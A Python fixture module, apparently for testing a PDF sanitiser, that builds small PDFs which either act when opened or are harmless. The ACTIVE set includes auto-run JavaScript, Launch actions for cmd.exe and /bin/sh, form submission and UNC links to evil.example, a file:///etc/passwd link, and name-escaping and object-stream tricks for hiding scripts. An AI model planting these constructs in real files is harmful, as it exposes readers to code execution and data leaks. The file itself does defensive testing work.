"""PDFs that people give: honest ones, and ones that do something when they are opened."""

import io
import zlib
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

Name, Text = NameObject, TextStringObject


def _dictionary(**items: object) -> DictionaryObject:
    return DictionaryObject({Name(f"/{key}"): value for key, value in items.items()})  # type: ignore[misc]


def _action(kind: str, **more: object) -> DictionaryObject:
    return _dictionary(S=Name(f"/{kind}"), **more)


def made(change: Callable[[PdfWriter], object] = lambda writer: None, **options: str) -> bytes:
    """A PDF of one page, after `change`; with `password` encrypted."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    if password := options.get("password"):
        writer.encrypt(user_password=options.get("user", ""), owner_password=password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _root(key: str, value: object) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.root_object.update({Name(f"/{key}"): value})  # type: ignore[dict-item]


def _annotation(**items: object) -> Callable[[PdfWriter], object]:
    box = ArrayObject([NumberObject(one) for one in (0, 0, 90, 90)])

    def change(writer: PdfWriter) -> None:
        note = writer._add_object(_dictionary(Type=Name("/Annot"), Rect=box, **items))
        writer.pages[0][Name("/Annots")] = ArrayObject([note])

    return change


def _page(key: str, value: object) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.pages[0].update({Name(f"/{key}"): value})  # type: ignore[dict-item]


def packed(
    inside: bytes, *, name: bytes = b"/ObjStm", header: bytes = b"/Filter/FlateDecode"
) -> bytes:
    """A PDF whose catalog lies in a packed stream of objects, found by a table that is a stream."""
    objects = b"1 0 2 " + str(len(inside) + 1).encode() + b" "
    content = objects + inside + b" <</Type/Pages/Kids[]/Count 0>>"
    body = zlib.compress(content) if header else content
    head = b"%PDF-1.5\n"
    stream = (
        b"3 0 obj<</Type" + name + b"/N 2/First %d/Length %d" % (len(objects), len(body))
        + header + b">>stream\n" + body + b"\nendstream endobj\n"
    )  # fmt: skip
    table_at = len(head + stream)
    rows = b"\0\0\0\0" + b"\2\0\3\0" + b"\2\0\3\1" + b"\1\0" + bytes([len(head)]) + b"\0"
    rows += b"\1" + table_at.to_bytes(2, "big") + b"\0"
    table = (
        b"4 0 obj<</Type/XRef/Size 5/W[1 2 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
        + rows + b"\nendstream endobj\n"
    )  # fmt: skip
    return head + stream + table + b"startxref\n%d\n%%%%EOF\n" % table_at


def _script(code: str = "app.alert(1)") -> DictionaryObject:
    return _action("JavaScript", JS=Text(code))


def _embedded(writer: PdfWriter) -> None:
    writer.add_attachment("run.exe", b"MZ")


def _script_in_names(writer: PdfWriter) -> None:
    names = _dictionary(JavaScript=_dictionary(Names=ArrayObject([Text("a"), _script()])))
    writer.root_object[Name("/Names")] = names


def _form(**field: object) -> Callable[[PdfWriter], object]:
    def change(writer: PdfWriter) -> None:
        box = ArrayObject([NumberObject(one) for one in (0, 0, 90, 20)])
        one = writer._add_object(
            _dictionary(
                Type=Name("/Annot"),
                Subtype=Name("/Widget"),
                FT=Name("/Tx"),
                T=Text("a"),
                Rect=box,
                **field,
            )
        )
        writer.pages[0][Name("/Annots")] = ArrayObject([one])
        writer.root_object[Name("/AcroForm")] = _dictionary(Fields=ArrayObject([one]))

    return change


def _linked(address: str) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.add_annotation(0, Link(rect=(0, 0, 90, 90), url=address))


def _outside(writer: PdfWriter) -> None:
    """A page whose content is in another file."""
    stream = DecodedStreamObject()
    stream[Name("/F")] = Text("\\\\evil.example\\share\\a.txt")
    writer.pages[0][Name("/Contents")] = writer._add_object(stream)


PLAIN = made()
HIDDEN_SCRIPT = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
ACTIVE: dict[str, bytes] = {
    "a script when it is opened": made(_root("OpenAction", _script())),
    "a script in its names": made(_script_in_names),
    "a script behind a link": made(_annotation(Subtype=Name("/Link"), A=_script())),
    "a script when a page is turned": made(_page("AA", _dictionary(O=_script()))),
    "a script when it is closed": made(_root("AA", _dictionary(WC=_script()))),
    "a script after a page is gone to": made(
        _root("OpenAction", _action("GoTo", D=ArrayObject(), Next=_script()))
    ),
    "a script in a field": made(_form(AA=_dictionary(K=_script()))),
    "a script spelt with numbers": made(_root("OpenAction", _script())).replace(
        b"/JavaScript", b"/J#61va#53cript"
    ).replace(b"/JS", b"/#4aS"),
    "a script in a packed object": packed(HIDDEN_SCRIPT),
    "a script in an object packed in another way": packed(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(1)>>>>", header=b""
    ),
    "a script in a packed object spelt with numbers": packed(HIDDEN_SCRIPT, name=b"/Obj#53tm"),
    "a script that no table names": PLAIN.replace(
        b"xref\n", b"77 0 obj\n<</S/JavaScript/JS(1)>>\nendobj\nxref\n", 1
    ),
    "a program to start": made(
        _root("OpenAction", _action("Launch", F=Text("cmd.exe"), Win=_dictionary(F=Text("cmd.exe"))))
    ),
    "a program to start by a link": made(
        _annotation(Subtype=Name("/Link"), A=_action("Launch", F=Text("/bin/sh")))
    ),
    "a page on the web when it is opened": made(
        _root("OpenAction", _action("URI", URI=Text("https://evil.example")))
    ),
    "printing when it is opened": made(_root("OpenAction", _action("Named", N=Name("/Print")))),
    "another file to go to": made(
        _annotation(Subtype=Name("/Link"), A=_action("GoToR", F=Text("\\\\evil.example\\a.pdf")))
    ),
    "a file inside": made(_embedded),
    "a file as a note": made(
        _annotation(Subtype=Name("/FileAttachment"), FS=_dictionary(F=Text("a.exe")))
    ),
    "a file with its page": made(_page("AF", ArrayObject())),
    "many files as one": made(_root("Collection", _dictionary(Type=Name("/Collection")))),
    "content in another file": made(_outside),
    "a film": made(_annotation(Subtype=Name("/Movie"), Movie=_dictionary(F=Text("a.mov")))),
    "a screen": made(_annotation(Subtype=Name("/Screen"))),
    "a film of a newer kind": made(
        _annotation(Subtype=Name("/RichMedia"), RichMediaContent=_dictionary())
    ),
    "a model": made(_annotation(Subtype=Name("/3D"))),
    "a form that is sent": made(_form(A=_action("SubmitForm", F=Text("https://evil.example")))),
    "a form that takes data in": made(_form(A=_action("ImportData", F=Text("a.fdf")))),
    "a form of the other kind (XFA)": made(
        _root("AcroForm", _dictionary(Fields=ArrayObject(), XFA=Text("<xdp/>")))
    ),
    "a link that is a script": made(_linked("javascript:alert(1)")),
    "a link to a file": made(_linked("file:///etc/passwd")),
    "a link to a share": made(_linked("\\\\evil.example\\share")),
    "a password": made(password="secret", user="secret"),
    "restrictions alone": made(password="secret"),
}  # fmt: skip

HARMLESS: dict[str, bytes] = {
    "a page": PLAIN,
    "a link to the web": made(_linked("https://example.org/a?b=c")),
    "a link to an address": made(_linked("mailto:colin@example.org")),
    "a link within it": made(
        lambda writer: writer.add_annotation(0, Link(rect=(0, 0, 9, 9), target_page_index=0))
    ),
    "a page to begin with": made(
        lambda writer: writer.root_object.update(
            {Name("/OpenAction"): ArrayObject([writer.pages[0].indirect_reference, Name("/Fit")])}  # type: ignore[list-item]
        )
    ),
    "a page to go to when opened": made(_root("OpenAction", _action("GoTo", D=Text("one")))),
    "a form that was filled in": made(_form(V=Text("Yes, on Monday"))),
    "bookmarks": made(lambda writer: writer.add_outline_item(title="One", page_number=0)),
    "objects in packed streams": packed(b"<</Type/Catalog/Pages 2 0 R>>"),
}


def readable(content: bytes) -> int:
    """How many pages another reader finds."""
    return len(PdfReader(io.BytesIO(content)).pages)
